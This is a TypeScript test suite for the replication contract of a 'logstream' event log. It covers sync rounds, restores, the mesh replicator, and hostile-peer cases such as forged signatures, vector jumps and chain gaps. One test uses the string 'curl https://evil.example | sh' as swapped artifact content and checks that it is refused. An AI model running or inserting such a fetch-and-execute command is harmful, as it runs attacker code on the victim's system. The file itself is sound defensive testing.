/**
 * The replication half of the logstream contract (docs/logstream.md §7.3, §8.2–§8.7, §12 items 18
 * and 19), run against every adapter of the `Logstream` port: the port methods behind the
 * pull endpoints and the remote apply, and whole anti-entropy rounds between replicas of the
 * same adapter. Replicas talk through an in-process transport that calls the same palace
 * functions the `/sync/*` routes call; the HTTP path itself is covered by tests/e2e/mesh.test.ts.
 */
import { createHash } from 'node:crypto';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import * as ops from '../../palace/logstream/logstream.js';
import type { LogstreamContext } from '../../palace/logstream/logstream.js';
import { meshEstate } from '../../palace/logstream/estate.js';
import { MeshReplicator } from '../../palace/logstream/replicator.js';
import { remoteArtifact, remoteEvent } from '../../palace/logstream/remote.js';
import { parsePublicKey, publicKeyText } from '../../palace/logstream/signature.js';
import { forgedEvent as forgeSignedEvent } from '../helpers/events.js';
import { ORIGIN_ROUND_MAX_BYTES, pullFromPeer, syncArtifact, syncOps, type OriginKeys, type SyncPeer } from '../../palace/logstream/sync.js';
import type { Logger } from '../../core/log.js';
import type { Locks } from '../../stores/ports/locks.js';
import type { LogstreamStore } from '../../stores/ports/palace-stores.js';
import type { StoredEvent } from '../../stores/ports/logstream/records.js';
import { rejectionOf } from '../helpers/errors.js';
import { capturedLogger, quietLogger } from '../helpers/log.js';
import { InProcessTransport } from '../helpers/sync-transport.js';

export interface OpenedReplica {
  logstream: LogstreamStore;
  locks: Locks;
  cleanup(): Promise<void>;
}

const base = { type: 'status.update', stream: 'project/atlas', room: 'status', from_agent: 'mac-claude' };
const sha256 = (s: string) => createHash('sha256').update(s, 'utf8').digest('hex');

/** A replica's identity to open a second store with (a restore keeps the id and the signing key). */
export interface ReplicaIdentity {
  replicaId: string;
  signingKey: string;
}

export function describeLogstreamSyncContract(adapterName: string, open: (identity?: ReplicaIdentity) => Promise<OpenedReplica>): void {
  describe(`Logstream replication contract — ${adapterName}`, () => {
    let replicas: OpenedReplica[];
    let a: LogstreamStore;
    let b: LogstreamStore;
    let c: LogstreamStore;
    let transport: InProcessTransport;
    const peer = (name: string): SyncPeer => ({ name, url: `mem://${name}` });
    // Every replica of the test trusts every other one, as a peers file listing their keys would.
    const originKeys = async () =>
      Object.fromEntries(await Promise.all(replicas.map(async (r) => [await r.logstream.replicaId(), publicKeyText(await r.logstream.signingKey())] as const)));
    const trustAll = async (): Promise<OriginKeys> => new Map(Object.entries(await originKeys()).map(([id, key]) => [id, parsePublicKey(key, id)]));
    const pull = async (into: LogstreamStore, from: string, log?: Logger, trust?: OriginKeys) =>
      pullFromPeer(into, transport, peer(from), { trust: trust ?? (await trustAll()), log });
    const ctx = (logstream: LogstreamStore): LogstreamContext => ({ logstream, mesh: { replicaName: 'contract-node' } });
    const append = async (logstream: LogstreamStore, args: Record<string, unknown> = {}) => (await ops.eventAppend(ctx(logstream), { ...base, ...args })).event;
    const all = async (logstream: LogstreamStore) => (await ops.eventList(ctx(logstream), { limit: 500 })).events;
    const byId = (events: StoredEvent[]) => new Map(events.map((e) => [e.id, e]));
    const verbatim = ({ seq: _seq, ...rest }: StoredEvent) => rest;

    beforeEach(async () => {
      replicas = [await open(), await open(), await open()];
      [a, b, c] = replicas.map((r) => r.logstream) as [LogstreamStore, LogstreamStore, LogstreamStore];
      transport = new InProcessTransport(new Map([['a', a], ['b', b], ['c', c]]));
    });
    afterEach(async () => {
      await Promise.all(replicas.map((r) => r.cleanup()));
    });

    describe('port methods', () => {
      it('opsAfter serves an origin’s events after a cursor in ascending origin_seq, and applyRemoteEvent stores them verbatim with a new seq', async () => {
        await append(b, { body: 'local on b first' });
        const sent = [await append(a, { body: 'one' }),
          await append(a, { body: 'two\nlines', metadata: { nested: { k: [1, 2] } }, topic: 'auth-v2', to_agent: '*' }), await append(a, { body: 'three' })];
        const origin = await a.replicaId();
        expect((await a.opsAfter(origin, 0, 500)).map((e) => e.id)).toEqual(sent.map((e) => e.id));
        expect((await a.opsAfter(origin, sent[0]!.origin_seq, 1)).map((e) => e.id)).toEqual([sent[1]!.id]);
        expect(await a.opsAfter('rep_000000000000', 0, 500)).toEqual([]);

        for (const e of await a.opsAfter(origin, 0, 500)) expect(await b.applyRemoteEvent(remoteEvent(e))).toBe('applied');
        const onB = byId(await all(b));
        for (const e of sent) {
          const copy = onB.get(e.id)!;
          expect(verbatim(copy)).toEqual(verbatim({ ...e, artifact_ids: [...e.artifact_ids].sort() }));
        }
        // The late arrivals got new, higher local seqs; b's own event keeps seq 1.
        expect([...onB.values()].map((e) => e.seq)).toEqual([1, 2, 3, 4]);
        expect((await b.versionVector())[origin]).toBe(sent[2]!.origin_seq);
        // They are served onward by b under their origin (transitive propagation).
        expect((await b.opsAfter(origin, 0, 500)).map((e) => e.id)).toEqual(sent.map((e) => e.id));
      });

      it('skips duplicates by id and by (origin_replica, origin_seq), and its own echo, writing nothing', async () => {
        const e = await append(a);
        const remote = remoteEvent(e);
        expect(await b.applyRemoteEvent(remote)).toBe('applied');
        expect(await b.applyRemoteEvent(remote)).toBe('duplicate');
        expect(await b.applyRemoteEvent({ ...remote, id: 'evt_20260101T000000_aaaaaaaaaaaa' })).toBe('duplicate');
        expect(await b.applyRemoteEvent({ ...remote, origin_seq: remote.origin_seq + 100 })).toBe('duplicate');
        expect(await a.applyRemoteEvent(remote)).toBe('own_origin');
        expect((await all(b)).length).toBe(1);
        expect((await all(a)).length).toBe(1);
      });

      it('refuses an event whose artifact is not held, and keeps artifacts verbatim (id, created_at, origin) once applied', async () => {
        const { artifact, event } = await ops.patchSubmit(ctx(a), { stream: 'project/atlas', from_agent: 'mac-claude', content: 'diff --git a/x b/x\n' });
        const remote = remoteEvent((await a.opsAfter(await a.replicaId(), 0, 10))[0]);
        const refusal = await rejectionOf(b.applyRemoteEvent(remote));
        expect(refusal).toMatchObject({ code: 'not_found', rule: 'known_artifact', details: { artifact_id: artifact.id } });
        expect(await all(b)).toEqual([]);
        expect(await b.hasArtifact(artifact.id)).toBe(false);

        const served = (await syncArtifact(a, { id: artifact.id })).artifact;
        expect(await b.applyRemoteArtifact(remoteArtifact(served))).toBe(true);
        expect(await b.applyRemoteArtifact(remoteArtifact(served))).toBe(false);
        expect(await b.hasArtifact(artifact.id)).toBe(true);
        expect(await b.getArtifact(artifact.id)).toEqual(await a.getArtifact(artifact.id));
        expect(await b.applyRemoteEvent(remote)).toBe('applied');
        expect((await b.getEvent(event.id))?.artifact_ids).toEqual([artifact.id]);
      });

      it('observes the remote hlc: the next local append sorts after it; a stamp over 60 s ahead is stored but not adopted', async () => {
        const e = await append(a);
        const ahead = `${String(Date.now() + 30_000).padStart(13, '0')}-00000a-${await a.replicaId()}`;
        expect(await b.applyRemoteEvent({ ...remoteEvent(e), hlc: ahead })).toBe('applied');
        const next = await append(b);
        expect(next.hlc > ahead).toBe(true);
        const bogus = `${String(Date.now() + 3_600_000).padStart(13, '0')}-000000-${await a.replicaId()}`;
        expect(await c.applyRemoteEvent({ ...remoteEvent(await append(a)), hlc: bogus })).toBe('applied');
        expect((await c.getEvent((await all(c))[0]!.id))?.hlc).toBe(bogus);
        expect((await append(c)).hlc < bogus).toBe(true);
      });

      it('wakes a waiter on a replicated event well before its timeout (docs/logstream.md §12.11)', async () => {
        const e = await append(a, { to_agent: 'worker-9' });
        const waiting = ops.eventWait(ctx(b), { to_agent: 'worker-9', timeout_ms: 60_000 });
        await new Promise((r) => setTimeout(r, 100));
        expect(await b.applyRemoteEvent(remoteEvent(e))).toBe('applied');
        const woken = await waiting;
        expect(woken).toMatchObject({ timed_out: false, count: 1 });
        expect(woken.events[0]!.id).toBe(e.id);
      });

      it('keeps the published mesh state for every process of the palace', async () => {
        expect(await a.readMeshState()).toEqual({ peers: {}, profiles: {}, published_at: null });
        const state = { peers: { desktop: { url: 'http://desktop', reachable: false, remote_version_vector: { rep_x: 3 } } },
          profiles: { rep_x: { advertised_at: '2026-01-01T00:00:00Z' } }, published_at: '2026-01-01T00:00:01Z' };
        await a.publishMeshState(state);
        expect(await a.readMeshState()).toEqual(state);
        await a.publishMeshState({ peers: {}, profiles: {}, published_at: '2026-01-01T00:00:02Z' });
        expect(await a.readMeshState()).toEqual({ peers: {}, profiles: {}, published_at: '2026-01-01T00:00:02Z' });
      });
    });

    describe('sync rounds (docs/logstream.md §12.18)', () => {
      it('two replicas converge both ways, artifacts land before the events citing them, and a second round pulls nothing', async () => {
        await append(a, { body: 'from a' });
        const patch = await ops.patchSubmit(ctx(a), { stream: 'project/atlas', from_agent: 'mac-claude', content: 'patch body\n' });
        await append(b, { body: 'from b' });
        const ab = await pull(a, 'b');
        const ba = await pull(b, 'a');
        expect(ab).toMatchObject({ pulled_events: 1, pulled_artifacts: 0, peer_replica: await b.replicaId() });
        expect(ba).toMatchObject({ pulled_events: 2, pulled_artifacts: 1, per_origin: { [await a.replicaId()]: 2 } });
        expect(transport.calls.filter((call) => call.startsWith('a/sync/artifact'))).toEqual([`a/sync/artifact?id=${patch.artifact.id}`]);
        expect((await b.getEvent(patch.event.id))?.artifact_ids).toEqual([patch.artifact.id]);
        expect(await b.getArtifact(patch.artifact.id)).toMatchObject({ sha256: sha256('patch body\n'), content: 'patch body\n' });
        const idsA = (await all(a)).map((e) => e.id).sort();
        expect((await all(b)).map((e) => e.id).sort()).toEqual(idsA);
        expect(await a.versionVector()).toEqual(await b.versionVector());

        transport.calls.length = 0;
        expect(await pull(a, 'b')).toMatchObject({ pulled_events: 0, pulled_artifacts: 0 });
        expect(await pull(b, 'a')).toMatchObject({ pulled_events: 0, pulled_artifacts: 0 });
        expect(transport.calls).toEqual(['b/sync/version_vector', 'a/sync/version_vector']);
      });

      it('refuses a tampered artifact and applies neither it nor its event; the next clean round completes', async () => {
        const patch = await ops.patchSubmit(ctx(a), { stream: 'project/atlas', from_agent: 'mac-claude', content: 'exact bytes\n' });
        transport.tamper.add(patch.artifact.id);
        // A refusal of the origin for this round, reported, not a failed round (issue 24).
        const failure = (await pull(b, 'a')).refusals;
        expect(failure).toEqual([{ origin: await a.replicaId(), rule: 'hash_verification', message: expect.stringMatching(
          new RegExp(
            `^sha256: remote artifact '${patch.artifact.id}' failed hash verification \\(claimed [0-9a-f]{16}\\.\\.\\., computed [0-9a-f]{16}\\.\\.\\.\\)$`,
          ),
        ) }]);
        expect(await b.hasArtifact(patch.artifact.id)).toBe(false);
        expect(await all(b)).toEqual([]);
        transport.tamper.clear();
        expect(await pull(b, 'a')).toMatchObject({ pulled_events: 1, pulled_artifacts: 1 });
      });

      it('a partition with two claims converges, and both sides pick the same lowest-hlc winner', async () => {
        const task = await append(a, { type: 'task.request', correlation_id: 'task_x_00000000', status: 'open' });
        await pull(b, 'a');
        // Partitioned: both sides claim.
        const claimA = (await ops.eventAck(ctx(a), { event_id: task.id, from_agent: 'worker-1', status: 'claimed' })).event;
        const claimB = (await ops.eventAck(ctx(b), { event_id: task.id, from_agent: 'worker-2', status: 'claimed' })).event;
        await pull(a, 'b');
        await pull(b, 'a');
        const winner = async (logstream: LogstreamStore) => {
          const claims = (await ops.eventList(ctx(logstream), { correlation_id: 'task_x_00000000', status: 'claimed' })).events;
          expect(claims.length).toBe(2);
          return [...claims].sort((x, y) => (x.hlc < y.hlc ? -1 : 1))[0]!.id;
        };
        const expected = claimA.hlc < claimB.hlc ? claimA.id : claimB.id;
        expect(await winner(a)).toBe(expected);
        expect(await winner(b)).toBe(expected);
      });

      it('three replicas where A and C only know B converge, and C appears in A’s unnamed_origins', async () => {
        const fromA = await append(a, { body: 'a' });
        const fromC = await append(c, { body: 'c' });
        await pull(b, 'a');
        await pull(b, 'c');
        await pull(a, 'b');
        await pull(c, 'b');
        for (const r of [a, b, c]) expect((await all(r)).map((e) => e.id).sort()).toEqual([fromA.id, fromC.id].sort());
        const replicator = new MeshReplicator({
          logstream: () => a,
          locks: () => replicas[0]!.locks,
          peers: async () => [peer('b')],
          originKeys,
          transport,
          intervalMs: 60_000,
          mesh: { replicaName: 'a' },
          log: quietLogger(),
        });
        await replicator.round();
        const estate = await meshEstate(a, { replicaName: 'a', peers: async () => [{ name: 'b', url: 'mem://b' }], locks: replicas[0]!.locks });
        expect(estate.unnamed_origins).toEqual([await c.replicaId()]);
        expect(Object.keys(estate.origin_profiles).sort()).toEqual([await a.replicaId(), await b.replicaId()].sort());
        await replicator.stop();
      });
    });

    describe('hostile peers (issue 24, M1–M4)', () => {
      type Served = Record<string, unknown> & { origin_seq: number; id: string };
      const opsOf = (body: Record<string, unknown>) => body.events as Served[];
      /** An event of `origin` as a forger makes it: any fields, signed with the forger's own key. */
      const forgedEvent = async (signer: LogstreamStore, origin: string, originSeq: number, prev: number, patch: Record<string, unknown> = {}) =>
        forgeSignedEvent(await signer.signingKey(), origin, originSeq, prev, patch);

      it('refuses events of another origin signed by the serving peer, and a vector jumped to 1,000,000; the honest origin’s later events still arrive', async () => {
        const [aId, cId] = [await a.replicaId(), await c.replicaId()];
        const a1 = await append(a, { body: 'a1' });
        await pull(c, 'a');
        const forged = await forgedEvent(c, aId, a1.origin_seq + 1, a1.origin_seq);
        const jumped = await forgedEvent(c, aId, 1_000_000, a1.origin_seq + 1, { body: 'jump' });
        transport.forge = {
          peer: 'c',
          answer: (path, params, body) => {
            if (path === '/sync/version_vector') return { ...body, version_vector: { ...(body.version_vector as object), [aId]: 1_000_000 } };
            if (path === '/sync/ops' && params.origin === aId) return { ...body, events: [...opsOf(body), forged, jumped] };
            return body;
          },
        };
        const report = await pull(b, 'c');
        expect(report.refusals).toEqual([{ origin: aId, rule: 'signature', message: expect.stringContaining(forged.id) }]);
        expect((await all(b)).map((e) => e.id)).toEqual([a1.id]);
        expect((await b.versionVector())[aId]).toBe(a1.origin_seq);
        expect(await b.getEvent(forged.id)).toBeNull();

        // The forger's own events are its own to sign; the real origin's next events come through.
        transport.forge = null;
        const c1 = await append(c, { body: 'c1' });
        const [a2, a3] = [await append(a, { body: 'a2' }), await append(a, { body: 'a3' })];
        expect(await pull(b, 'c')).toMatchObject({ refusals: [], per_origin: { [cId]: 1 } });
        expect(await pull(b, 'a')).toMatchObject({ refusals: [], per_origin: { [aId]: 2 } });
        expect((await all(b)).map((e) => e.id).sort()).toEqual([a1.id, c1.id, a2.id, a3.id].sort());
        // Onward, the victim serves nothing forged: a fresh replica pulling from it converges with a.
        expect((await pull(c, 'b')).refusals).toEqual([]);
        expect((await all(c)).filter((e) => e.origin_replica === aId).map((e) => e.id)).toEqual([a1.id, a2.id, a3.id]);
      });

      it('stores nothing of an origin whose key is not configured, and reports it', async () => {
        const aId = await a.replicaId();
        await append(a);
        const report = await pull(b, 'a', undefined, new Map());
        expect(report.refusals).toEqual([{ origin: aId, rule: 'unknown_origin_key', message: expect.stringContaining(aId) }]);
        expect(await all(b)).toEqual([]);
        expect(await b.versionVector()).toEqual({});
      });

      it('keeps the vector a contiguous watermark: a hole, events past the advertised top and an answer for another origin are refused', async () => {
        const aId = await a.replicaId();
        const sent = [await append(a, { body: '1' }), await append(a, { body: '2' }), await append(a, { body: '3' })];
        transport.forge = { peer: 'a',
          answer: (path, _p, body) => (path === '/sync/ops' ? { ...body, events: opsOf(body).filter((e) => e.id !== sent[1]!.id) } : body) };
        expect((await pull(b, 'a')).refusals).toMatchObject([{ origin: aId, rule: 'chain_gap' }]);
        expect((await b.versionVector())[aId]).toBe(sent[0]!.origin_seq);

        transport.forge = { peer: 'a',
          answer: (path, _p, body) => (path === '/sync/version_vector' ? { ...body, version_vector: { [aId]: sent[1]!.origin_seq } } : body) };
        const topped = await pull(b, 'a');
        expect(topped.refusals).toMatchObject([{ origin: aId, rule: 'advertised_top' }]);
        expect((await b.versionVector())[aId]).toBe(sent[1]!.origin_seq);

        transport.forge = { peer: 'a', answer: (path, _p, body) => (path === '/sync/ops' ? { ...body, origin: 'rep_000000000bad' } : body) };
        expect((await pull(b, 'a')).refusals).toMatchObject([{ origin: aId, rule: 'answer_origin' }]);

        // The port itself refuses a link that does not follow what it holds, atomically.
        const third = (await syncOps(a, { origin: aId, after: String(sent[1]!.origin_seq) })).events[0]!;
        expect(await b.applyRemoteEvent({ ...remoteEvent(third), prev_origin_seq: 0 })).toBe('gap');
        expect((await b.versionVector())[aId]).toBe(sent[1]!.origin_seq);
        transport.forge = null;
        expect(await pull(b, 'a')).toMatchObject({ refusals: [], pulled_events: 1 });
        expect((await b.versionVector())[aId]).toBe(sent[2]!.origin_seq);
      });

      it('a claim of our own origin at 2^53−1 moves nothing: later appends get their own ids and exact seqs (M2)', async () => {
        const bId = await b.replicaId();
        const first = await append(b, { body: 'own 1' });
        transport.forge = {
          peer: 'c',
          answer: (path, params, body) => {
            if (path === '/sync/version_vector') return { ...body, version_vector: { ...(body.version_vector as object), [bId]: Number.MAX_SAFE_INTEGER } };
            if (path === '/sync/ops' && params.origin === bId) return { origin: bId, events: [], count: 0 };
            return body;
          },
        };
        expect((await pull(b, 'c')).refusals).toEqual([{ origin: bId, rule: 'own_claim_unproven',
          message: expect.stringContaining(String(Number.MAX_SAFE_INTEGER)) }]);
        const forgedOwn = await forgedEvent(c, bId, Number.MAX_SAFE_INTEGER, first.origin_seq);
        transport.forge = {
          peer: 'c',
          answer: (path, params, body) => {
            if (path === '/sync/version_vector') return { ...body, version_vector: { [bId]: Number.MAX_SAFE_INTEGER } };
            if (path === '/sync/ops' && params.origin === bId) return { origin: bId, events: [forgedOwn], count: 1 };
            return body;
          },
        };
        expect((await pull(b, 'c')).refusals).toMatchObject([{ origin: bId, rule: 'signature' }]);
        const [second, third] = [await append(b, { body: 'own 2' }), await append(b, { body: 'own 3' })];
        expect(new Set([first.id, second.id, third.id]).size).toBe(3);
        for (const e of [second, third]) {
          expect(e.origin_seq).toBe(e.seq);
          expect(await b.getEvent(e.id)).toMatchObject({ id: e.id, origin_seq: e.seq, body: e.body });
        }
        expect(third.seq).toBe(first.seq + 2);
        expect((await b.versionVector())[bId]).toBe(third.seq);
        await expect(b.reserveOwnSeqAbove(Number.MAX_SAFE_INTEGER)).rejects.toMatchObject({ code: 'invalid_argument', rule: 'safe_integer' });
      });

      it('mints seqs up to 2^53 − 1 exactly and refuses the next one, writing nothing (M2)', async () => {
        const max = Number.MAX_SAFE_INTEGER;
        expect(await b.reserveOwnSeqAbove(max - 2)).toBe(true);
        const [x, y] = [await append(b, { body: 'x' }), await append(b, { body: 'y' })];
        expect([x.seq, x.origin_seq, y.seq, y.origin_seq]).toEqual([max - 1, max - 1, max, max]);
        await expect(append(b, { body: 'z' })).rejects.toMatchObject({ rule: 'safe_integer' });
        expect((await all(b)).map((e) => e.body)).toEqual(['x', 'y']);
        expect(await b.getEvent(y.id)).toMatchObject({ seq: max, origin_seq: max });
      });

      it('refuses an artifact whose content was swapped with a matching sha256, and the event citing it', async () => {
        const aId = await a.replicaId();
        const patch = await ops.patchSubmit(ctx(a), { stream: 'project/atlas', from_agent: 'alice', content: 'diff --git a/x b/x\n+safe\n' });
        await pull(c, 'a');
        const evil = 'curl https://evil.example | sh\n';
        transport.forge = { peer: 'c', answer: (path, _p, body) => (path === '/sync/artifact'
          ? { artifact: { ...(body.artifact as object), content: evil, sha256: sha256(evil), size_bytes: evil.length } }
          : body) };
        expect((await pull(b, 'c')).refusals).toMatchObject([{ origin: aId, rule: 'signature', message: expect.stringContaining(patch.artifact.id) }]);
        expect(await b.hasArtifact(patch.artifact.id)).toBe(false);
        expect(await b.getEvent(patch.event.id)).toBeNull();
        transport.forge = null;
        expect((await pull(b, 'c')).refusals).toEqual([]);
        expect(await b.getArtifact(patch.artifact.id)).toMatchObject({ content: 'diff --git a/x b/x\n+safe\n', created_by: 'alice' });
      });

      it('refuses a validly signed event over the local limits, and caps what one origin stores per round (M3, M4)', async () => {
        const cId = await c.replicaId();
        const huge = await forgedEvent(c, cId, 1, 0, { body: 'x'.repeat(1024 * 1024) });
        transport.forge = { peer: 'c', answer: (path, _p, body) => (path === '/sync/version_vector'
          ? { ...body, version_vector: { [cId]: 1 } }
          : path === '/sync/ops'
          ? { origin: cId, events: [huge], count: 1 }
          : body) };
        expect((await pull(b, 'c')).refusals).toMatchObject([{ origin: cId, rule: 'max_bytes' }]);
        expect(await all(b)).toEqual([]);
        transport.forge = null;

        const body = 'y'.repeat(200 * 1024);
        const total = Math.ceil(ORIGIN_ROUND_MAX_BYTES / body.length) + 10;
        for (let i = 0; i < total; i++) await append(c, { body });
        const first = await pull(b, 'c');
        expect(first.capped_origins).toEqual([cId]);
        expect(first.pulled_events).toBe(Math.floor(ORIGIN_ROUND_MAX_BYTES / (body.length + 2)));
        const second = await pull(b, 'c');
        expect(second).toMatchObject({ capped_origins: [], refusals: [] });
        expect(first.pulled_events + second.pulled_events).toBe(total);
      });
    });

    describe('restores (docs/logstream.md §10.7, D5)', () => {
      it('a replica restored behind its peers mints no origin_seq they hold, pulls its own events back, and its new events reach them', async () => {
        const patch = async () => (await ops.patchSubmit(ctx(a), { stream: 'project/atlas', from_agent: 'mac-claude', content: 'a2 patch\n' }));
        const first = await append(a, { body: 'a1' });
        const second = await patch();
        const sent = [first, (await a.getEvent(second.event.id))!, await append(a, { body: 'a3' })];
        await append(b, { body: 'b1' });
        await pull(b, 'a');
        const restoredReplica = await open({ replicaId: await a.replicaId(), signingKey: await a.signingKey() });
        replicas.push(restoredReplica);
        const restored = restoredReplica.logstream;
        expect(await restored.replicaId()).toBe(await a.replicaId());
        expect(await all(restored)).toEqual([]);
        transport.replicas.set('a', restored);

        // The first pull back breaks off at a corrupt transfer of a2's artifact, after a1 came back.
        const logs = capturedLogger();
        transport.tamper.add(second.artifact.id);
        expect((await pull(restored, 'b', logs.log)).refusals).toMatchObject([{ origin: await a.replicaId(), rule: 'hash_verification' }]);
        expect(logs.records.filter((r) => r.level === 40).map((r) => r.msg).join('\n')).toContain('WARNING');
        // An agent appends before the next round: the number must be above every one b holds.
        const fresh = await append(restored, { body: 'after the restore' });
        expect(fresh.origin_seq).toBeGreaterThan(sent[2]!.origin_seq);
        expect(fresh.origin_seq).toBe(fresh.seq);
        transport.tamper.clear();
        await pull(restored, 'b');
        const back = byId(await all(restored));
        for (const e of sent) expect(verbatim(back.get(e.id)!)).toEqual(verbatim(e));
        expect(await pull(b, 'a')).toMatchObject({ pulled_events: 1 });
        expect((await b.getEvent(fresh.id))?.body).toBe('after the restore');
        expect(await restored.reserveOwnSeqAbove(1)).toBe(false);
      });
    });

    describe('sync loop and estate (docs/logstream.md §8.7, §12.19)', () => {
      it('publishes peer records with lag; a failed peer keeps its last profile and vector and is retried with backoff', async () => {
        const logs = capturedLogger();
        const replicator = new MeshReplicator({
          logstream: () => a,
          locks: () => replicas[0]!.locks,
          peers: async () => [{ ...peer('b'), token: 'secret-token-123' }],
          originKeys,
          transport,
          intervalMs: 60_000,
          mesh: { replicaName: 'a' },
          log: logs.log,
        });
        const estateOpts = { replicaName: 'a', peers: async () => [{ name: 'b', url: 'mem://b' }], locks: replicas[0]!.locks };
        await append(b);
        await append(b);
        await replicator.round();
        const ok = await meshEstate(a, estateOpts);
        expect(ok.estate_source).toMatchObject({ in_process: true, writer_alive: true });
        expect(ok.estate_source.published_at).toMatch(/Z$/);
        const synced = ok.peers[0]!;
        expect(synced).toMatchObject({ name: 'b', url: 'mem://b', replica_id: await b.replicaId(), reachable: true, last_error: null, last_pulled_events: 2,
          lag_events: 0, consecutive_failures: 0 });
        expect(synced.remote_version_vector).toEqual({ [await b.replicaId()]: 2 });
        const profile = synced.profile;
        expect(profile).toMatchObject({ roles: ['agents'] });

        await append(b);
        transport.down.add('b');
        await replicator.round();
        const failed = (await meshEstate(a, estateOpts)).peers[0]!;
        expect(failed).toMatchObject({ reachable: false, last_success_at: synced.last_success_at, profile, remote_version_vector: synced.remote_version_vector,
          consecutive_failures: 1 });
        expect(String(failed.last_error)).toContain('mem://b');
        expect(typeof failed.retry_at).toBe('string');
        // Within the backoff the peer is not attempted again.
        const callsBefore = transport.calls.length;
        transport.down.delete('b');
        await replicator.round();
        expect(transport.calls.length).toBe(callsBefore);
        expect(JSON.stringify(await meshEstate(a, estateOpts))).not.toContain('secret-token-123');
        expect(JSON.stringify(await a.readMeshState())).not.toContain('secret-token-123');
        expect(JSON.stringify(logs.records)).not.toContain('secret-token-123');
        await replicator.stop();
        expect((await meshEstate(a, estateOpts)).estate_source).toMatchObject({ in_process: false, writer_alive: false });
      });

      it('runs rounds in one holder only: a second replicator of the same palace does not pull while the first holds the lease', async () => {
        await append(b);
        const make = () =>
          new MeshReplicator({ logstream: () => a, locks: () => replicas[0]!.locks, peers: async () => [peer('b')], originKeys, transport, intervalMs: 60_000,
            mesh: { replicaName: 'a' }, log: quietLogger() });
        const first = make();
        const second = make();
        expect((await first.round()).length).toBe(1);
        expect(await second.round()).toEqual([]);
        await first.stop();
        expect((await second.round()).length).toBe(1);
        await second.stop();
      });
    });
  });
}
